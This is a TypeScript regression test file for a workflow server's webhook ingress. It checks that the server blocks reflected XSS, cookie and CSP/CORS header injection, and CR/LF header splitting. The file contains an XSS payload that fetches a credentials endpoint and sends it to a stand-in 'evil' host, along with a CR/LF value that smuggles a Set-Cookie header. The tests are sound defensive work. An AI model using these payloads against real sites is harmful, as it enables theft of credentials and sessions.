import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiServer } from '../api/api-server.js';
import { SQLITE } from '../support/harness.js';
import { deployActive, startTriggerServer } from '../triggers/trigger-test-kit.js';

/**
 * Issue 11 finding 8: a webhook answering `shape: http` echoed `<script>` as text/html from the UI's
 * origin with no CSP (reflected XSS), and a workflow could set cookies and CSP/CORS headers there.
 */
describe('ingress answers cannot script or reconfigure the UI origin', () => {
  let s: ApiServer;
  beforeAll(async () => {
    s = await startTriggerServer(SQLITE);
  });
  afterAll(() => s.close());

  const XSS = '<script>fetch("/automation/credentials").then(r=>r.text()).then(t=>location="//evil/?"+t)</script>';

  it('the XSS reproducer answers with CSP sandbox and nosniff, and without the workflow\'s cookie or CSP/CORS headers', async () => {
    await deployActive(s, {
      name: 'Open echo',
      nodes: [
        { id: 'in', node_type: 'trigger', config: { trigger_type: 'webhook', path: 'open', methods: ['GET'], auth: { mode: 'none' }, response: { mode: 'result', node_id: 'page', shape: 'http' } } },
        {
          id: 'page', node_type: 'transform', config: {
            expression: `{"status": 200, "body": "<html><body>Hello " & $trigger.query.name & "</body></html>", "headers": {
              "Content-Type": "text/html; charset=utf-8", "Set-Cookie": "itw_session=attacker; Path=/", "Content-Security-Policy": "script-src *",
              "X-Frame-Options": "ALLOWALL", "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Credentials": "true",
              "Service-Worker-Allowed": "/", "X-Content-Type-Options": "sniff", "X-Request-Echo": "kept"}}`,
          },
        },
      ],
      edges: [{ source_node_id: 'in', target_node_id: 'page' }],
    });
    const r = await fetch(`${s.url}/webhooks/open?name=${encodeURIComponent(XSS)}`);
    expect(r.status).toBe(200);
    expect(await r.text()).toContain('<script>'); // the workflow's body is its own business; the browser will not run it
    expect(r.headers.get('content-security-policy')).toBe('sandbox');
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('set-cookie')).toBeNull();
    expect(r.headers.get('x-frame-options')).toBeNull();
    expect(r.headers.get('access-control-allow-origin')).toBeNull();
    expect(r.headers.get('access-control-allow-credentials')).toBeNull();
    expect(r.headers.get('service-worker-allowed')).toBeNull();
    expect(r.headers.get('x-request-echo')).toBe('kept');
    expect(r.headers.get('x-itw-execution-id')).toMatch(/.+/);
  });

  it('a header value with CR/LF from a workflow is dropped, not split into a second header (and no 500)', async () => {
    await deployActive(s, {
      name: 'Splitter',
      nodes: [
        { id: 'in', node_type: 'trigger', config: { trigger_type: 'webhook', path: 'split', auth: { mode: 'none' }, response: { mode: 'result', node_id: 'page', shape: 'http' } } },
        { id: 'page', node_type: 'transform', config: { expression: '{"status": 200, "body": "ok", "headers": {"X-Note": "a\\r\\nSet-Cookie: itw_session=x"}}' } },
      ],
      edges: [{ source_node_id: 'in', target_node_id: 'page' }],
    });
    const r = await fetch(`${s.url}/webhooks/split`, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } });
    expect(r.status).toBe(200);
    expect(r.headers.get('x-note')).toBeNull();
    expect(r.headers.get('set-cookie')).toBeNull();
  });

  it.each([
    ['POST', '/webhooks/nothing-here'],
    ['POST', '/alerts/nothing-here'],
    ['POST', '/deployments/nothing-here'],
    ['GET', '/api/custom/nothing-here'],
  ])('error answers of %s %s carry the same headers', async (method, path) => {
    const r = await fetch(`${s.url}${path}`, { method, ...(method === 'POST' ? { body: '{}', headers: { 'content-type': 'application/json' } } : {}) });
    expect(r.status).toBeGreaterThanOrEqual(400);
    expect(r.headers.get('content-type')).toContain('application/problem+json');
    expect(r.headers.get('content-security-policy')).toBe('sandbox');
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('every UI HTML page, /index.html and the API docs included, has a CSP with frame-ancestors \'none\'', async () => {
    for (const path of ['/', '/login', '/workflows', '/workflows/some-id', '/index.html', '/docs/']) {
      const r = await fetch(`${s.url}${path}`);
      expect(r.status, path).toBe(200);
      expect(r.headers.get('content-type'), path).toContain('text/html');
      const csp = r.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).toContain("default-src 'self'");
      expect(r.headers.get('x-content-type-options'), path).toBe('nosniff');
    }
  });
});
